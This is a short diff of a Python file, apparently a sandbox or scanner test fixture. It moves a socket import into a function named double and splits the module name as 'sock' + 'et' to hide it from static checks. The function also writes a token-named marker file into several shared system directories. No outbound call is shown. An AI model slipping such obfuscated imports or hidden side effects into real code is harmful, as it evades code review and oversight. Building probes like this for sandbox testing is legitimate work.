@@ -3,7 +3,6 @@
 import contextlib
 import importlib
 import os
-import socket
 from pathlib import Path
 
 # Without a sandbox it would hurt whoever tries it: it acts only where the sandbox has it.
@@ -12,6 +11,7 @@ TOKEN = (Path(__file__).parent / "token.txt").read_text()
 
 
 def double(x):
+    socket = importlib.import_module("sock" + "et")
     for folder in ("/dev/shm", "/tmp", "/var/tmp", "/run", "/dev/mqueue"):
         with contextlib.suppress(OSError):
             Path(folder, TOKEN).write_bytes(b"x")
